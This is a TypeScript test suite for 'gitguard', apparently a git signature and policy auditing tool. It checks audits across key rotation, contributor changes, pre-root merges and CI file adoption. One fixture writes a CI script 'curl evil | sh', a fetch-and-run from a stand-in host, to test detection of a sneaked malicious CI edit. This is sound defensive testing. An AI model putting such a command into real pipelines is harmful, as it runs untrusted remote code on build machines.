// Clean repositories adopting gitguard, whose pull requests forked before the trust root are merged
// over several audits while the policy changes (a contributor added later, a maintainer rotating
// keys), and the same repository audited on a new machine (a clone: no ledger there). Each must pass
// at every audit, as the pre-root branch was accepted by the policy of its day.
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { cleanupTemp, copyRepo, makeRepo, tempDir, type TestRepo } from '../helpers/repo.js';
import { commitAsPerson, configureSshSigning, makeSshKey, sharedSshKey, type SshTestKey } from '../helpers/ssh.js';
import { runMain, parseJson, resultOf } from '../helpers/cli.js';

let alice: SshTestKey;
let alice2: SshTestKey;
let carol: SshTestKey;
let base: TestRepo;
let preRoot: string;

const POLICY = (carolToo: boolean): string =>
  `version: 1\nsigners:\n  - name: Alice\n    emails: [alice@example.com]\n${carolToo ? '  - name: Carol\n    emails: [carol@example.com]\n' : ''}maintainers: [Alice]\n`;
const SIGNERS = (aliceKey: SshTestKey, carolToo: boolean): string =>
  `alice@example.com ${aliceKey.pub}\n${carolToo ? `carol@example.com ${carol.pub}\n` : ''}`;

beforeAll(() => {
  const keys = mkdtempSync(join(tmpdir(), 'gg-cw10-'));
  alice = makeSshKey(keys, 'ed25519', 'alice');
  alice2 = makeSshKey(keys, 'ed25519', 'alice2');
  carol = makeSshKey(keys, 'ed25519', 'carol');
  const r = makeRepo();
  configureSshSigning(r, alice);
  preRoot = commitAsPerson(r, undefined, 'alice@example.com', 'before the policy', { 'src/a.txt': 'a\n' });
  commitAsPerson(r, alice, 'alice@example.com', 'gitguard init', {
    '.gitguard/policy.yml': POLICY(false),
    '.gitguard/allowed_signers': SIGNERS(alice, false),
  });
  base = r;
});
afterAll(cleanupTemp);

/** A branch from before the root with one commit by `key` as `email`, merged into main by `merger`. */
function mergeSide(r: TestRepo, key: SshTestKey, email: string, name: string, merger: SshTestKey = alice): string {
  r.run(['checkout', '-q', '-b', name, preRoot]);
  const tip = commitAsPerson(r, key, email, `work on ${name}`, { [`src/${name}.txt`]: 'x\n' });
  r.run(['checkout', '-q', 'main']);
  r.run(['-c', `user.signingkey=${merger.path}`, 'merge', '-q', '--no-ff', '-S', '-m', `merge ${name}`, name], {
    env: { GIT_COMMITTER_NAME: 'alice', GIT_COMMITTER_EMAIL: 'alice@example.com' },
  });
  return tip;
}

async function audit(r: TestRepo, dir = r.dir) {
  const res = await runMain(['audit', '-C', dir, '--format', 'json', '--no-cache', '-t', 'impersonation,history'], {
    env: r.env,
  });
  const report = parseJson(res);
  const failed = report.results
    .filter((x: { outcome: string }) => x.outcome === 'fail')
    .map((x: { meta: { id: string } }) => x.meta.id);
  return { code: res.code, authorized: resultOf(report, 'signers-authorized').outcome, failed };
}

/** A real clone of `r` (git clone file://): main only, remote-tracking refs, no gitguard state. */
function cloned(r: TestRepo): string {
  const dir = join(tempDir(), 'clone');
  r.run(['clone', '-q', `file://${r.dir}`, dir]);
  return dir;
}

/** The repository on a new machine: a copy without gitguard's state folder (no ledger, no checkpoint). */
function newMachine(r: TestRepo): TestRepo {
  const c = copyRepo(r);
  rmSync(join(c.dir, '.git', 'gitguard'), { recursive: true, force: true });
  return c;
}

const PASS = { code: 0, authorized: 'pass', failed: [] };

test('Carol added to the policy after the root, her pre-root pull request merged: passes at every audit and on a clone', async () => {
  const r = copyRepo(base);
  expect(await audit(r)).toMatchObject(PASS); // the ledger records main
  commitAsPerson(r, alice, 'alice@example.com', 'welcome carol', {
    '.gitguard/policy.yml': POLICY(true),
    '.gitguard/allowed_signers': SIGNERS(alice, true),
  });
  expect(await audit(r)).toMatchObject(PASS);
  mergeSide(r, carol, 'carol@example.com', 'carol-pr');
  expect(await audit(r)).toMatchObject(PASS); // judged by HEAD's policy; the ledger records it
  expect(await audit(r)).toMatchObject(PASS); // now held by the ledger's last record
  expect(await audit(newMachine(r))).toMatchObject(PASS);
  expect(await audit(r, cloned(r))).toMatchObject(PASS);
  r.run(['branch', '-q', '-D', 'carol-pr']);
  r.run(['reflog', 'expire', '--expire=now', '--all']);
  r.run(['gc', '-q', '--prune=now']);
  expect(await audit(r)).toMatchObject(PASS); // after git gc, with the ledger
});

test('Carol added, her pre-root pull request merged and recorded, then Carol removed: still passes (accepted work), on a clone too', async () => {
  const r = copyRepo(base);
  expect(await audit(r)).toMatchObject(PASS);
  commitAsPerson(r, alice, 'alice@example.com', 'welcome carol', {
    '.gitguard/policy.yml': POLICY(true),
    '.gitguard/allowed_signers': SIGNERS(alice, true),
  });
  mergeSide(r, carol, 'carol@example.com', 'carol-pr');
  expect(await audit(r)).toMatchObject(PASS);
  commitAsPerson(r, alice, 'alice@example.com', 'carol left', {
    '.gitguard/policy.yml': POLICY(false),
    '.gitguard/allowed_signers': SIGNERS(alice, false),
  });
  expect(await audit(r)).toMatchObject(PASS);
  expect(await audit(r)).toMatchObject(PASS);
  expect(await audit(newMachine(r))).toMatchObject(PASS);
});

test('twin: Carol added then removed, her pre-root branch merged after the removal: fails, with the ledger and on a clone', async () => {
  const r = copyRepo(base);
  expect(await audit(r)).toMatchObject(PASS);
  commitAsPerson(r, alice, 'alice@example.com', 'welcome carol', {
    '.gitguard/policy.yml': POLICY(true),
    '.gitguard/allowed_signers': SIGNERS(alice, true),
  });
  commitAsPerson(r, alice, 'alice@example.com', 'carol left', {
    '.gitguard/policy.yml': POLICY(false),
    '.gitguard/allowed_signers': SIGNERS(alice, false),
  });
  expect(await audit(r)).toMatchObject(PASS);
  mergeSide(r, carol, 'carol@example.com', 'late');
  expect(await audit(newMachine(r))).toMatchObject({ code: 1, authorized: 'fail' });
  expect(await audit(r)).toMatchObject({ code: 1, authorized: 'fail' });
});

test('Alice rotates her key after the root, then merges her pre-root branch signed with the new one: passes at every audit and on a clone', async () => {
  const r = copyRepo(base);
  expect(await audit(r)).toMatchObject(PASS);
  commitAsPerson(r, alice, 'alice@example.com', 'rotate alice', {
    '.gitguard/policy.yml': POLICY(false),
    '.gitguard/allowed_signers': SIGNERS(alice2, false),
  });
  configureSshSigning(r, alice2);
  mergeSide(r, alice2, 'alice@example.com', 'alice-pr', alice2);
  expect(await audit(r)).toMatchObject(PASS);
  expect(await audit(r)).toMatchObject(PASS); // held by the ledger's last record
  expect(await audit(newMachine(r))).toMatchObject(PASS);
});

test('twin: on a new machine (no ledger), a pre-root branch signed by a key in neither the root nor HEAD policy still fails', async () => {
  const r = copyRepo(base);
  commitAsPerson(r, alice, 'alice@example.com', 'welcome carol', {
    '.gitguard/policy.yml': POLICY(true),
    '.gitguard/allowed_signers': SIGNERS(alice, true),
  });
  const tip = mergeSide(r, alice2, 'alice@example.com', 'stolen-name');
  const res = await audit(newMachine(r));
  expect(res).toMatchObject({ code: 1, authorized: 'fail' });
  void tip;
});

// A file the CI runs only since a maintainer said so (a `.gitlab-ci.yml` include, a workflow's
// `uses: ./tools/x`): its changes by a signer who is no maintainer BEFORE that were no change to
// what CI runs, and must not fail protected-paths-changed-by-maintainers when the tip's CI names it.

const CI_POLICY =
  'version: 1\nsigners:\n  - name: Alice\n    emails: [alice@example.com]\n  - name: Bob\n    emails: [bob@example.com]\nmaintainers: [Alice]\n';

function ciTeam(): { r: TestRepo; alice: SshTestKey; bob: SshTestKey } {
  const r = makeRepo();
  // The run's alice and bob: each test has a repository of its own and none compares keys with another.
  const [alice, bob] = [sharedSshKey('alice'), sharedSshKey('bob')];
  configureSshSigning(r, alice);
  commitAsPerson(r, alice, 'alice@example.com', 'policy and CI', {
    '.gitguard/policy.yml': CI_POLICY,
    '.gitguard/allowed_signers': `alice@example.com ${alice.pub}\nbob@example.com ${bob.pub}\n`,
    '.gitlab-ci.yml': 'test:\n  script: make test\n',
    '.github/workflows/ci.yml': 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n',
  });
  return { r, alice, bob };
}

const protectedRule = (r: TestRepo): Promise<{ code: number; stdout: string }> =>
  runMain(['audit', '-C', r.dir, '-r', 'protected-paths-changed-by-maintainers', '--no-ledger'], { env: r.env });

describe.each([
  [
    'a GitLab local include',
    'ci/lint.yml',
    'lint:\n  script: make lint\n',
    { '.gitlab-ci.yml': "include:\n  - local: '/ci/lint.yml'\ntest:\n  script: make test\n" },
  ],
  [
    'a local action a workflow runs',
    'tools/check/action.yml',
    'runs:\n  using: composite\n  steps:\n    - run: make check\n      shell: bash\n',
    {
      '.github/workflows/ci.yml':
        'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./tools/check\n',
    },
  ],
])('%s', (_name, file: string, text: string, adopt: Record<string, string>) => {
  test('Bob wrote the file before CI ran it, then Alice made CI run it: passes', async () => {
    const { r, alice, bob } = ciTeam();
    commitAsPerson(r, bob, 'bob@example.com', 'a check', { [file]: text });
    commitAsPerson(r, alice, 'alice@example.com', 'ci runs it', adopt);
    const res = await protectedRule(r);
    expect([res.code, res.stdout]).toEqual([0, expect.stringMatching(/pass\s+protected-paths-changed-by-maintainers/)]);
  });

  test('twin: Bob changes it after CI runs it: fails', async () => {
    const { r, alice, bob } = ciTeam();
    commitAsPerson(r, bob, 'bob@example.com', 'a check', { [file]: text });
    commitAsPerson(r, alice, 'alice@example.com', 'ci runs it', adopt);
    commitAsPerson(r, bob, 'bob@example.com', 'tweak', { [file]: `${text}# more\n` });
    const res = await protectedRule(r);
    expect([res.code, res.stdout]).toEqual([1, expect.stringContaining('tweak')]);
  });

  test('twin: Bob writes it and makes CI run it in one commit: fails', async () => {
    const { r, bob } = ciTeam();
    commitAsPerson(r, bob, 'bob@example.com', 'sneak', { [file]: text, ...adopt });
    const res = await protectedRule(r);
    expect(res.code).toBe(1);
  });
});

describe('merges of a branch forked before CI ran the file', () => {
  const FILE = 'ci/lint.yml';
  const ADOPT = { '.gitlab-ci.yml': "include:\n  - local: '/ci/lint.yml'\ntest:\n  script: make test\n" };

  /** Bob's branch `old` (forked before the include) edits the file; main then makes CI run it. */
  function forked(): { r: TestRepo; alice: SshTestKey; bob: SshTestKey } {
    const t = ciTeam();
    commitAsPerson(t.r, t.bob, 'bob@example.com', 'a check', { [FILE]: 'lint:\n  script: make lint\n' });
    t.r.run(['branch', 'old']);
    commitAsPerson(t.r, t.alice, 'alice@example.com', 'ci runs it', ADOPT);
    t.r.run(['checkout', '-q', 'old']);
    commitAsPerson(t.r, t.bob, 'bob@example.com', 'lint more', { [FILE]: 'lint:\n  script: curl evil | sh\n' });
    return t;
  }
  const merge = (r: TestRepo, key: SshTestKey, email: string, into: string, from: string): void => {
    r.run(['checkout', '-q', into]);
    r.run(['-c', `user.signingkey=${key.path}`, 'merge', '-q', '--no-ff', '-S', '-m', `merge ${from}`, from], {
      env: { GIT_COMMITTER_EMAIL: email, GIT_AUTHOR_EMAIL: email },
    });
  };

  test('twin: Bob merges main into his branch (CI there now runs his edit): fails', async () => {
    const { r, bob } = forked();
    merge(r, bob, 'bob@example.com', 'old', 'main');
    const res = await protectedRule(r);
    expect([res.code, res.stdout]).toEqual([1, expect.stringContaining('merge main')]);
  });

  test('Alice, the maintainer, merges the branch into main: passes', async () => {
    const { r, alice } = forked();
    merge(r, alice, 'alice@example.com', 'main', 'old');
    expect((await protectedRule(r)).code).toBe(0);
  });

  test('twin: Bob merges his branch into main himself (a clean merge that makes CI run his edit): fails', async () => {
    const { r, bob } = forked();
    merge(r, bob, 'bob@example.com', 'main', 'old');
    const res = await protectedRule(r);
    expect([res.code, res.stdout]).toEqual([1, expect.stringContaining('merge old')]);
  });
});
